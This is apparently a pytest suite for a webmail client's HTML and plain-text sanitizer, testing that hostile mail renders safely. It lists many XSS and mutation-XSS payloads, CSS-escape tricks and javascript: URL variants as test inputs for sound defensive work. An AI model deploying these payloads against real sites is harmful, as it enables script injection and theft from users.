"""The sanitizer: what hostile mail can and cannot do once it reaches the message frame.

Plain pytest: no database. Our own vectors first, then the public corpora in shared/corpus
(DOMPurify's and the HTML5 Security Cheatsheet's payloads, CPython's MIME fuzzing seeds).
"""

import base64
import email
import email.policy
import json
import re
import time
from collections import Counter
from email.message import EmailMessage
from io import BytesIO

import pytest
import tinycss2
from bleach.html5lib_shim import HTMLParser

from mailbox.parsing import find_parts
from mailbox.parsing.charsets import decode_text_part
from mailbox.parsing.mime import read_part, scan_bytes
from mailbox.sanitize import sanitize_html, text_to_html
from tests.corpus import CORPUS, absent_param, require

CARRIERS = ("script", "iframe", "object", "embed", "form", "base", "meta", "link", "svg", "math",
            "style", "frame", "frameset", "applet", "noscript", "template", "input", "button",
            "textarea", "select", "title", "xmp", "noembed", "noframes", "plaintext")  # fmt: skip
URL_ATTRIBUTES = ("href", "src", "background", "cite", "action", "formaction", "poster", "srcset",
                  "lowsrc", "dynsrc", "data", "xlink:href", "longdesc", "usemap")  # fmt: skip
ALLOWED_DATA = re.compile(r"data:image/(png|gif|jpeg|webp);base64,[a-z0-9+/=]*$")


def cid_url(cid):
    return f"/mail/messages/5/cid/{cid}/"


def clean(html, **kwargs):
    return sanitize_html(html, cid_url=cid_url, **kwargs).html


def elements(output):
    """Every element of the output as a browser would parse it (HTML5, namespaced)."""
    root = HTMLParser(namespaceHTMLElements=True).parseFragment(output)
    return [el for el in root.iter() if el is not root and isinstance(el.tag, str)]


def assert_safe(output):
    """What no output may hold, checked on its parse and on its text."""
    for el in elements(output):
        namespace, _, tag = el.tag[1:].partition("}")
        assert namespace == "http://www.w3.org/1999/xhtml", (el.tag, output)
        assert tag not in CARRIERS, (tag, output)
        for name, value in el.attrib.items():
            name = name.lower() if isinstance(name, str) else name[1].lower()
            assert not name.startswith("on"), (name, output)
            normalized = re.sub(r"[\x00-\x20]", "", value).lower()
            if name in URL_ATTRIBUTES:
                assert not normalized.startswith(("javascript:", "vbscript:")), output
                if normalized.startswith("data:"):
                    assert tag == "img" and name == "src", output
                    assert ALLOWED_DATA.match(normalized), output
                if name == "href":
                    assert normalized.startswith(("http://", "https://", "mailto:")), output
            if name == "style":
                for marker in ("url(", "@import", "expression", "position:fixed",
                               "position:absolute", "behavior", "binding", "javascript", "\\"):  # fmt: skip
                    assert marker not in normalized, (marker, output)
    markup = re.sub(r">[^<]*<", "><", output.lower())  # tags and attributes, not text
    for carrier in CARRIERS:
        assert f"<{carrier}" not in markup, (carrier, output)
    for marker in ("url(", "@import", "expression(", "position:fixed", "position: fixed"):
        assert marker not in markup, (marker, output)
    assert not re.search(r"<[^>]*\son[a-z]+\s*=(?=[^\"]*(\"[^\"]*\"[^\"]*)*>)", markup), output


# --- script carriers ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<style>body{background:url(http://evil.example/)}</style>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
        "<applet code=x>hi</applet>",
        "<frameset><frame src=javascript:alert(1)></frameset>",
        "<template><script>alert(1)</script></template>",
        "<noembed><script>alert(1)</script></noembed>",
        "<noframes><script>alert(1)</script></noframes>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><script>alert(1)</script></title>",
    ],
)
def test_script_carriers_go_with_their_content(html):
    output = clean(html)
    assert_safe(output)
    assert "alert" not in output


def test_the_text_around_a_removed_element_stays():
    assert clean("<p>before<script>x()</script>after</p>") == "<div><p>beforeafter</p></div>"


def test_a_whole_document_keeps_its_body_and_loses_its_head():
    output = clean(
        "<html><head><title>Offer</title><meta charset=utf-8><style>p{color:red}</style></head>"
        '<body bgcolor="#eeeeee" style="margin:0"><p>Hello</p></body></html>'
    )
    assert output == '<div bgcolor="#eeeeee" style="margin: 0;"><p>Hello</p></div>'


def test_xmp_and_plaintext_show_as_escaped_preformatted_text():
    output = clean("<xmp><img src=x onerror=alert(1)></xmp>")
    assert output == "<div><pre>&lt;img src=x onerror=alert(1)&gt;</pre></div>"
    assert_safe(output)


def test_a_frameset_document_shows_nothing():
    assert clean("<frameset><frame src=http://evil.example/></frameset>") == ""


def test_svg_and_mathml_are_dropped_whole():
    for html in [
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math href=javascript:alert(1)>click</math>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    ]:
        output = clean(html)
        assert_safe(output)
        assert "alert" not in output


def test_base_and_meta_refresh_are_removed():
    output = clean(
        '<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://e/">'
        "<p>text</p>"
    )
    assert output == "<div><p>text</p></div>"


def test_outlooks_conditional_comments_show_what_other_clients_show():
    """Outlook-only markup hides in comments; "downlevel-revealed" markup is for everyone else,
    in both its forms (realworld/12-conditional-comments.eml)."""
    output = clean(
        "<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/>"
        "</o:OfficeDocumentSettings></xml><![endif]-->"
        "<p>a</p><!--[if mso]><p>OUTLOOK</p><![endif]--><![if !mso]><div>b</div><![endif]>"
        "<!--[if !mso]><!--><p>c</p><!--<![endif]-->"
        '<!--[if (gte mso 9)|(IE)]><table><tr><td width="600"><![endif]--><div>d</div>'
        "<!--[if (gte mso 9)|(IE)]></td></tr></table><![endif]--><p>e<o:p></o:p></p>"
    )
    assert output == "<div><p>a</p><div>b</div><p>c</p><div>d</div><p>e</p></div>"


def test_forms_and_their_controls_are_removed():
    output = clean(
        '<form action="http://phish.example/"><input name=password><button>Log in</button>'
        "<select><option>a</option></select><textarea>t</textarea></form><p>after</p>"
    )
    assert output == "<div><p>after</p></div>"


# --- attributes and URLs ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        "<img src=x onerror=alert(1)>",
        "<p onclick=alert(1) onmouseover='alert(2)'>x</p>",
        "<body onload=alert(1)>",
        "<div ONCLICK=alert(1)>x</div>",
        "<a href=https://ok.example/ onfocus=alert(1) autofocus>x</a>",
        "<details open ontoggle=alert(1)>",
    ],
)
def test_event_handlers_are_removed(html):
    output = clean(html)
    assert_safe(output)
    assert "alert" not in output


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "  javascript:alert(1)",
        "java\tscript:alert(1)",
        "java&#x09;script:alert(1)",
        "java&#10;script:alert(1)",
        "java\x00script:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
        "&#0000106&#0000097vascript:alert(1)",
        "javascript&colon;alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/png;base64,iVBORw0KGgo=",
        "file:///etc/passwd",
        "//evil.example/",
        "/relative/path",
        "relative.html",
        "#fragment",
        "http:evil.example",
        "ht\x01tp://evil.example/",
        "https\x7f://evil.example/",
    ],
)
def test_links_other_than_http_https_mailto_lose_their_href(href):
    output = clean(f'<a href="{href}">x</a>')
    assert output == "<div><a>x</a></div>", output


@pytest.mark.parametrize(
    "href", ["https://example.com/a?b=1&c=2", "http://example.com/", "mailto:bob@example.com"]
)
def test_good_links_open_in_a_new_tab_without_referrer(href):
    output = clean(f'<a href="{href}" target="_self" rel="opener">x</a>')
    escaped = href.replace("&", "&amp;")
    assert output == (
        f'<div><a href="{escaped}" target="_blank" rel="noopener noreferrer">x</a></div>'
    )


def test_a_link_with_spaces_around_or_a_newline_inside_is_kept_clean():
    output = clean('<a href=" https://exa\nmple.com/ ">x</a>')
    assert 'href="https://example.com/"' in output


def test_cite_on_a_blockquote_keeps_only_web_urls():
    assert 'cite="https://example.com/"' in clean('<blockquote cite="https://example.com/">q')
    assert "cite" not in clean('<blockquote cite="javascript:alert(1)">q')


# --- remote content, cid: parts and data: images --------------------------------------------


def test_remote_images_are_blocked_and_counted():
    result = sanitize_html('<img src="https://track.example/open.gif?u=1" width=1 height=1>')
    assert result.html == '<div><img width="1" height="1"></div>'
    assert result.blocked_remote == 1


def test_remote_images_are_kept_when_allowed():
    result = sanitize_html('<img src="https://cdn.example/a.png">', allow_remote=True)
    assert result.html == '<div><img src="https://cdn.example/a.png"></div>'
    assert result.blocked_remote == 0


def test_protocol_relative_images_are_remote():
    assert sanitize_html('<img src="//cdn.example/a.png">').blocked_remote == 1
    allowed = sanitize_html('<img src="//cdn.example/a.png">', allow_remote=True)
    assert 'src="https://cdn.example/a.png"' in allowed.html


def test_tracking_pixels_are_blocked_in_every_attribute_that_loads():
    result = sanitize_html(
        '<table background="http://t.example/1"><tr background="http://t.example/2">'
        '<td background="https://t.example/3" style="background-image: url(http://t.example/4)">'
        '<img srcset="http://t.example/5 1x, http://t.example/6 2x" lowsrc="http://t.example/7"'
        ' dynsrc="http://t.example/8"><video poster="http://t.example/9"></video>'
        "<div style=\"background: URL( '//t.example/10' )\">x</div>"
        '<p style="list-style: url(&quot;https://t.example/11&quot;)">y</p>'
        "</td></tr></table>"
    )
    assert "t.example" not in result.html
    assert result.blocked_remote == 9  # not the poster: it went with its <video>
    assert_safe(result.html)


def test_background_attributes_are_kept_when_remote_content_is_allowed():
    result = sanitize_html(
        '<table background="https://cdn.example/bg.png"><tr><td>x</td></tr></table>',
        allow_remote=True,
    )
    assert 'background="https://cdn.example/bg.png"' in result.html


def test_css_urls_are_dropped_even_when_remote_content_is_allowed():
    result = sanitize_html(
        '<div style="background-image: url(https://cdn.example/a.png); color: red">x</div>',
        allow_remote=True,
    )
    assert result.html == '<div><div style="color: red;">x</div></div>'


# --- <base href>: relative URLs resolved before the <base> goes -----------------------------------

SHOP = '<base href="https://shop.example.net/konto/">'


def hrefs(output):
    return [el.get("href") for el in elements(output) if el.tag.endswith("}a")]


def test_relative_links_resolve_against_the_base_href():
    output = clean(
        SHOP + '<a href="bestellung?id=4711">a</a><a href="/hilfe/versand">b</a>'
        '<a href="https://shop.example.net/agb">c</a><a href="../impressum#top">d</a>'
        '<a href="?seite=2">e</a><a href="//cdn.example.org/x">f</a><a href="">g</a>'
    )
    assert hrefs(output) == [
        "https://shop.example.net/konto/bestellung?id=4711",
        "https://shop.example.net/hilfe/versand",
        "https://shop.example.net/agb",
        "https://shop.example.net/impressum#top",
        "https://shop.example.net/konto/?seite=2",
        "https://cdn.example.org/x",
        "https://shop.example.net/konto/",  # an empty href is the base itself, as in a browser
    ]
    assert "<base" not in output
    assert_safe(output)


def test_only_the_first_base_with_an_href_counts_wherever_it_is():
    output = clean(
        '<base target="_top"><p><a href="a">a</a></p>'
        '<base href="https://first.example/dir/"><base href="https://second.example/">'
    )
    assert hrefs(output) == ["https://first.example/dir/a"]


def test_a_backslash_in_a_relative_url_is_read_as_a_slash_as_browsers_do():
    assert hrefs(clean(SHOP + '<a href="\\\\other.example\\x">a</a>')) == [
        "https://other.example/x"
    ]


@pytest.mark.parametrize(
    "base",
    [
        "/konto/",  # relative: nothing to resolve it against (the frame's URL is ours)
        "//shop.example.net/konto/",
        "javascript:alert(1)//",
        " jav&#x09;ascript:alert(1)//",
        "data:text/html,<script>alert(1)</script>/",
        "vbscript:msgbox(1)//",
        "cid:part@x/",
        "mailto:a@b.example/",
    ],
)
def test_a_base_that_is_not_an_absolute_web_url_resolves_nothing(base):
    result = sanitize_html(
        f'<base href="{base}"><a href="x">a</a><img src="i.png"><p style="background: url(b.png)">'
    )
    assert hrefs(result.html) == [None]
    assert "src=" not in result.html
    assert result.blocked_remote == 0
    assert_safe(result.html)


def test_a_base_inside_svg_is_no_base():
    output = clean('<svg><base href="https://svg.example/"></base></svg><a href="x">a</a>')
    assert hrefs(output) == [None]


@pytest.mark.parametrize(
    "href",
    ["javascript:alert(1)", " JaVaScRiPt:alert(1)", "java&#x09;script:alert(1)",
     "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "jar:x!/", "file:///etc"],
)  # fmt: skip
def test_dangerous_targets_stay_refused_under_a_base(href):
    output = clean(f'{SHOP}<a href="{href}">a</a><blockquote cite="{href}">q</blockquote>')
    assert hrefs(output) == [None]
    assert "cite=" not in output
    assert_safe(output)


def test_relative_images_under_a_base_are_remote_blocked_and_counted():
    result = sanitize_html(
        SHOP + '<img src="logo.png" width="100"><img srcset="a.png 1x, b.png 2x">'
        '<table background="bg.png"><tr><td style="background: url(&quot;c.png&quot;)">x'
        "</td></tr></table>"
    )
    assert "shop.example.net" not in result.html
    assert result.blocked_remote == 4
    assert_safe(result.html)


def test_relative_images_under_a_base_load_from_there_when_remote_content_is_allowed():
    result = sanitize_html(
        SHOP + '<img src="../img/logo.png"><table background="/bg.png"><tr><td>x</td></tr></table>',
        allow_remote=True,
    )
    assert '<img src="https://shop.example.net/img/logo.png">' in result.html
    assert 'background="https://shop.example.net/bg.png"' in result.html
    assert result.blocked_remote == 0


def test_cid_and_data_images_are_untouched_by_a_base():
    result = sanitize_html(
        SHOP + '<img src="cid:logo@x"><img src="data:image/png;base64,iVBORw0KGgo=">',
        cid_url=cid_url,
    )
    assert '<img src="/mail/messages/5/cid/logo@x/">' in result.html
    assert '<img src="data:image/png;base64,iVBORw0KGgo=">' in result.html
    assert result.blocked_remote == 0


def test_without_a_base_relative_urls_stay_dead_and_load_nothing():
    result = sanitize_html('<a href="x">a</a><img src="i.png"><img srcset="j.png 2x">')
    assert hrefs(result.html) == [None]
    assert result.html.count("<img>") == 2
    assert result.blocked_remote == 0


def test_cid_images_point_to_our_own_url_and_are_reported():
    result = sanitize_html(
        '<img src="cid:logo@example.com"><img src="CID:%3Cpart2%40x%3E">'
        '<table><tr><td background="cid:bg" style="background: url(cid:bg2) no-repeat">x'
        "</td></tr></table>",
        cid_url=cid_url,
    )
    assert '<img src="/mail/messages/5/cid/logo@example.com/">' in result.html
    assert '<img src="/mail/messages/5/cid/part2@x/">' in result.html
    assert 'background="/mail/messages/5/cid/bg/"' in result.html
    assert 'url("/mail/messages/5/cid/bg2/") no-repeat' in result.html
    assert result.cids == {"logo@example.com", "part2@x", "bg", "bg2"}
    assert result.blocked_remote == 0


def test_cid_images_without_a_known_part_lose_their_src():
    result = sanitize_html(
        '<img src="cid:missing"><p style="background: url(cid:gone)">x</p>',
        cid_url=lambda cid: None,
    )
    assert result.html == "<div><img><p>x</p></div>"
    assert result.cids == {"missing", "gone"}
    assert sanitize_html('<img src="cid:a">').html == "<div><img></div>"


def test_a_cid_url_cannot_break_out_of_its_css_string():
    result = sanitize_html(
        '<p style="background: url(cid:x)">y</p>', cid_url=lambda cid: '/a");color:red;x("'
    )
    style = elements(result.html)[1].get("style")
    declarations = tinycss2.parse_declaration_list(style, skip_whitespace=True)
    assert [d.name for d in declarations] == ["background"]


def test_raster_data_images_are_kept_and_others_removed():
    png = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    assert f'src="{png}"' in clean(f'<img src="{png}">')
    for src in [
        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "data:text/html,<script>alert(1)</script>",
        "data:image/png,rawbytes",
        'data:image/png;base64,AAAA"onerror=alert(1)',
    ]:
        output = clean(f"<img src='{src}'>")
        assert "src" not in output, output


# --- CSS ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "style",
    [
        "width: expression(alert(1))",
        "width: EXPRESSION(alert(1))",
        "width: expr/**/ession(alert(1))",
        "width: \\65 xpression(alert(1))",
        "background: url(javascript:alert(1))",
        "background: u\\72l(http://evil.example/)",
        "background: \\75rl(http://evil.example/)",
        "background: \\000075\\000072\\00006c(http://evil.example/)",
        "background: u\\rl(http://evil.example/)",
        'background: url("http://evil.example/")',
        "@import 'http://evil.example/x.css'",
        "color: red; @import url(http://evil.example/)",
        "behavior: url(x.htc)",
        "-moz-binding: url(http://evil.example/xss.xml#xss)",
        "background-image: image-set('http://evil.example/a.png' 1x)",
        "background-image: -webkit-image-set(url(http://evil.example/a.png) 1x)",
        "position: fixed; top: 0; left: 0; width: 100%; height: 100%",
        "position: FIXED",
        "position: f\\69xed",
        "position: absolute",
        "position: sticky",
        "color: red; position: fixed; top: 0",  # split into declarations, each checked
        "color: red; position:fixed !important",
        "color: red; z-index: 99999; width: 100%",
        "z-index: 99999",
        "font-family: 'javascript:alert(1)'",
        "background: linear-gradient(red, blue), url(http://evil.example/)",
        "color: var(--x)",
        "content: url(http://evil.example/)",
        "cursor: url(http://evil.example/c.cur), auto",
    ],
)
def test_dangerous_css_is_dropped(style):
    output = clean(f'<div style="{style.replace(chr(34), "&quot;")}">x</div>')
    assert_safe(output)
    assert "evil" not in output and "alert" not in output
    assert "position" not in output and "z-index" not in output


def test_harmless_css_is_kept():
    output = clean(
        '<table><tr><td style="padding:10px 20px;font-family:Arial,sans-serif;color:#333;'
        "background-color:rgb(255, 0, 0);border-radius:4px;position:relative;"
        'width:100% !important;background:linear-gradient(#fff, #000)">x</td></tr></table>'
    )
    for part in [
        "padding: 10px 20px",
        "font-family: Arial,sans-serif",
        "color: #333",
        "background-color: rgb(255, 0, 0)",
        "border-radius: 4px",
        "position: relative",
        "width: 100%;",  # without its !important: see REFLOWED_PROPERTIES
        "background: linear-gradient(#fff, #000)",
    ]:
        assert part in output, (part, output)


def test_css_comments_and_broken_declarations_do_not_confuse_the_filter():
    output = clean('<p style="color: red; /* x; background: url(http://e/) */ ;; width: 1px">y')
    assert output == '<div><p style="color: red; width: 1px;">y</p></div>'
    assert clean('<p style="color: red; }{ background: url(http://e/)">y') in (
        '<div><p style="color: red;">y</p></div>',
        "<div><p>y</p></div>",
    )


# --- mutation XSS, parser confusion ------------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '<template><p title="</template><img src=x onerror=alert(1)>">',
        '<style><img src="</style><img src=x onerror=alert(1)>">',
        '<title><img src="</title><img src=x onerror=alert(1)>">',
        '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
        '<iframe><img title="</iframe><img src=x onerror=alert(1)>">',
        '<xmp><img title="</xmp><img src=x onerror=alert(1)>">',
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;'
        '&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<a href=x><table><a href=javascript:alert(1)>x</a></table>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--!><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)>-->",
        "<!--<img src=x onerror=alert(1)>",
        "<! foo><img src=x onerror=alert(1)>",
        "<?xml ?><img src=x onerror=alert(1)>",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<img src=x onerror&#61;alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=x onerror\x0c=alert(1)>",
        '<a href="jav&#x0A;ascript:alert(1)">x</a>',
        "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<p>&amp;lt;script&amp;gt;</p>",
        "<scr<script>ipt>alert(1)</script>",
        "<a href='javascript&colon;alert&lpar;1&rpar;'>x</a>",
        "<div style='x:&#101;xpression(alert(1))'>x</div>",
    ],
)
def test_parser_confusion_leaves_nothing_that_runs(html):
    assert_safe(clean(html))


def test_escaped_markup_stays_escaped_exactly_once():
    assert clean("<p>&lt;script&gt; &amp;lt; a &amp; b</p>") == (
        "<div><p>&lt;script&gt; &amp;lt; a &amp; b</p></div>"
    )


def test_deeply_nested_markup_is_handled_without_recursion():
    # Past Python's recursion limit. Not far past: html5lib's tree building is quadratic in the
    # nesting depth (20,000 levels take about a minute), a known limit of this sanitizer.
    html = "<div><b>" * 1_500 + "deep" + "</b></div>" * 1_500
    assert "deep" in clean(html)


def test_newsletter_markup_survives():
    html = (
        '<table width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" '
        'align="center"><tr><td colspan="2" valign="top" style="padding: 20px">'
        '<font face="Arial" color="#333333" size="2"><center><h1>Hi</h1></center>'
        "<ul><li><b>bold</b> <i>it</i> <u>u</u> <s>s</s> <small>sm</small> <sup>1</sup></li></ul>"
        "<blockquote>q</blockquote><pre><code>code</code></pre><hr><br></font></td></tr></table>"
    )
    output = clean(html)
    for fragment in ['cellpadding="0"', 'bgcolor="#ffffff"', 'colspan="2"', 'valign="top"',
                     '<font face="Arial" color="#333333" size="2">', "<center>", "<h1>", "<ul>",
                     "<li>", "<b>", "<i>", "<u>", "<s>", "<small>", "<sup>", "<blockquote>",
                     "<pre>", "<code>", "<hr>", "<br>"]:  # fmt: skip
        assert fragment in output, fragment


# --- text/plain ---------------------------------------------------------------------------------


def test_plain_text_is_escaped_and_keeps_its_line_breaks():
    output = text_to_html("a <b> & c\n\n  indented\ttab")
    assert "a &lt;b&gt; &amp; c\n\n  indented\ttab" in output
    assert output.startswith('<div class="plain-text">')  # pre-wrap in the stylesheet
    assert "style=" not in output  # the pages' Content-Security-Policy allows no style attribute


def test_plain_text_links_are_clickable():
    output = text_to_html("See https://example.com/a?b=1&c=2. Or (http://x.example/y_(z)), mail "
                          "mailto:bob@example.com; not javascript:alert(1)")  # fmt: skip
    assert (
        '<a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">'
        "https://example.com/a?b=1&amp;c=2</a>. " in output
    )
    assert '<a href="http://x.example/y_(z)" ' in output
    assert "</a>), mail" in output
    assert '<a href="mailto:bob@example.com" ' in output
    assert 'href="javascript' not in output


def test_a_link_cannot_break_out_of_its_attribute():
    output = text_to_html('https://example.com/"onmouseover="alert(1) http://e.example/<script>')
    assert_safe(output)
    assert "<script" not in output


def test_quoted_lines_fold_into_nested_blockquotes():
    output = text_to_html("Sure.\n> Can you?\n> > Said I\n>> twice\n> back\nBye")
    assert output == (
        '<div class="plain-text">Sure.'
        '<blockquote class="quote">Can you?<blockquote class="quote">Said I\ntwice</blockquote>'
        "back</blockquote>Bye</div>"
    )


def test_format_flowed_joins_soft_breaks_and_unstuffs():
    text = "This is a \r\nlong line.\r\n From here\r\n>quoted \r\n>more\r\n-- \r\nsig"
    output = text_to_html(text, flowed=True)
    assert "This is a long line.\nFrom here" in output
    assert '<blockquote class="quote">quoted more</blockquote>' in output
    assert "-- \nsig" in output


def test_format_flowed_delsp_removes_the_space_of_soft_breaks():
    assert "Verylongword" in text_to_html("Very \nlongword", flowed=True, delsp=True)
    assert "Very \nlongword" in text_to_html("Very \nlongword")


# --- public corpora -----------------------------------------------------------------------------


# H5SC's payloads.js: its vectors name these placeholders. A resource goes to a host that cannot
# resolve, so that even a failing run asks nothing of the internet.
H5SC_VALUES = {
    "js_uri_alert": "javascript:alert(1)",
    "js_uri_alert_2": "javascript:alert(2)",
    "js_uri_alert_3": "javascript:alert(3)",
    "js_alert": "alert(1)",
    "js_alert_2": "alert(2)",
    "js_alert_3": "alert(3)",
    "js_alert_only": "alert",
    "js_alert_entities": "&#x61;l&#x65;rt&#40;1)",
    "js_write": "write(1)",
    "js_write_2": "write(2)",
    "js_focus": "focus()",
    "js_utf7_alert_1": "&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi",
    "js_utf7_alert_2": "&<script&S1&TS&1>alert&A7&(1)&R&UA;&&<&A9&11/script&X&>",
    "js_base64_alert": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "html_alert_encoded": "&lt;img src&equals;x:x onerror&equals;alert&lpar;1&rpar;&gt;",
    **{
        key: f"http://h5sc.invalid/attachments/{name}"
        for key, name in [
            ("svg_path", "test.svg"), ("svg_path_2", "test2.svg"), ("svg_path_3", "test5.svg"),
            ("svg_font_path", "font.svg"), ("css_path", "test.css"), ("vml_path", "test.vml"),
            ("sct_path", "test.sct"), ("htc_path", "test.htc"), ("xdr_path", "test.xdr"),
            ("xxe_path", "test.xxe"), ("swf_path", "test.swf"), ("event_path", "event.php"),
        ]
    },
}  # fmt: skip


def fill_h5sc(payload):
    for key, value in H5SC_VALUES.items():
        payload = payload.replace(f"%{key}%", value)
    return payload


def corpus_payloads(name):
    path = CORPUS / "xss" / name
    if not path.exists():
        return [absent_param(path)]
    return [
        pytest.param(item["payload"], id=f"{name[:-5]}-{index}")
        for index, item in enumerate(json.loads(path.read_text()))
    ]


@pytest.mark.parametrize(
    "payload", corpus_payloads("dompurify.json") + corpus_payloads("h5sc.json")
)
def test_public_xss_payloads_leave_nothing_that_runs_or_loads(payload):
    result = sanitize_html(payload, cid_url=cid_url)
    assert_safe(result.html)
    # And again with remote content allowed: still nothing but http(s) images may load.
    assert_safe(sanitize_html(payload, allow_remote=True).html)


def mime_files():
    folder = CORPUS / "mime-fuzz"
    files = sorted(folder.glob("*.eml")) if folder.exists() else []
    if not files:
        return [absent_param(folder)]
    return [pytest.param(path, id=path.stem[:12]) for path in files]


def leaf_parts(raw):
    """The leaf parts of a message, with the modern policy or, where the stdlib's own header
    parser raises on fuzzed input (it does, on a few), with compat32 as a reader would."""
    for policy in (email.policy.default, email.policy.compat32):
        try:
            message = email.message_from_bytes(raw, policy=policy)
            return [
                (part.get_content_type(), part.get_params() or [], part)
                for part in message.walk()
                if not part.is_multipart()
            ]
        except Exception:
            continue
    return []


def part_text(part):
    try:
        return part.get_content()
    except Exception:  # broken charsets, encodings, headers: what a reader does next
        payload = part.get_payload(decode=True) or b""
        if isinstance(payload, str):
            return payload
        try:
            charset = part.get_content_charset("utf-8") or "utf-8"
            return payload.decode(charset, errors="replace")
        except (LookupError, ValueError):
            return payload.decode("utf-8", errors="replace")


def test_the_mime_corpus_has_all_its_files():
    require(CORPUS / "mime-fuzz")
    assert len(list((CORPUS / "mime-fuzz").glob("*.eml"))) >= 299


_QUOTE_MARKS = re.compile(r"^((?:>[ \t]?)+)")


def shown_text(output):
    """The text a browser shows of some HTML, without its whitespace."""
    root = HTMLParser(namespaceHTMLElements=False).parseFragment(output)
    return "".join("".join(root.itertext()).split())


def text_without_quote_marks(text, flowed):
    """What text_to_html must show of a text: every character but whitespace, the quote marks
    it turns into blockquotes, and NULs (which no HTML parser keeps)."""
    text = text.replace("\r\n", "\n").replace("\r", "\n").replace("\x00", "")
    lines = [
        line.lstrip(">") if flowed else _QUOTE_MARKS.sub("", line) for line in text.split("\n")
    ]
    return "".join("".join(lines).split())


@pytest.mark.parametrize("path", mime_files())
def test_odd_mime_messages_render_safely_and_keep_their_text(path):
    """None of these files has an HTML part (see the next test); their text parts go through
    text_to_html as the reading pane shows them, and through sanitize_html as well, as a
    mislabelled part would: the HTML is safe either way, and the plain text shows every character
    it holds. Only our own calls are timed, not the checks' parsing."""

    def timed(function, *args, **kwargs):
        nonlocal spent
        started = time.perf_counter()
        try:
            return function(*args, **kwargs)
        finally:
            spent += time.perf_counter() - started

    spent = 0.0
    for content_type, params, part in leaf_parts(path.read_bytes()):
        params = {str(key).lower(): str(value).lower() for key, value in params}
        text = part_text(part)
        assert_safe(timed(sanitize_html, text, cid_url=cid_url).html)
        if content_type == "text/plain":
            flowed = params.get("format") == "flowed"
            output = timed(text_to_html, text, flowed=flowed, delsp=params.get("delsp") == "yes")
            assert_safe(output)
            assert shown_text(output) == text_without_quote_marks(text, flowed)
    assert spent < 1.0


def test_the_mime_corpus_has_no_html_part_so_html_is_fed_from_elsewhere():
    """Why the HTML cases below exist: the fuzz seeds hold text/plain, never text/html."""
    require(CORPUS / "mime-fuzz")
    types = Counter(
        content_type
        for path in (CORPUS / "mime-fuzz").glob("*.eml")
        for content_type, _params, _part in leaf_parts(path.read_bytes())
    )
    assert types["text/html"] == 0 and types["text/plain"] >= 200, types


# --- HTML as mail: through the reading path ------------------------------------------------------

# a 1x1 PNG, the inline image of every wrapped payload
LOGO = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
)


def read_as_the_pane_does(raw, allow_remote=False):
    """(SanitizedHtml, decoded HTML) of a raw message's HTML body, read the way the reading pane
    reads a kept message (mailbox.sources.local and views.message.sanitized_body): the part
    tree of a scan, the HTML body find_parts chooses, its bytes decoded from their transfer
    encoding and charset, sanitized with its inline parts as our cid URLs."""
    _text, html, _attachments, inline = find_parts(scan_bytes(raw).tree)
    assert html is not None, "no HTML body found"
    decoded = decode_text_part(
        read_part(BytesIO(raw), html), html.content_type, html.params.get("charset", "")
    )
    shown = {part.content_id for part in inline}

    def our_url(cid):
        return cid_url(cid) if cid in shown else None

    return sanitize_html(decoded, cid_url=our_url, allow_remote=allow_remote), decoded


WRAPPINGS = ("quoted-printable", "base64", "8bit")


def wrapped_as_mail(html, wrapping):
    """A newsletter-shaped message around ``html``: multipart/alternative of a text part and a
    multipart/related of the HTML (in the transfer encoding ``wrapping``) and an image."""
    message = EmailMessage()
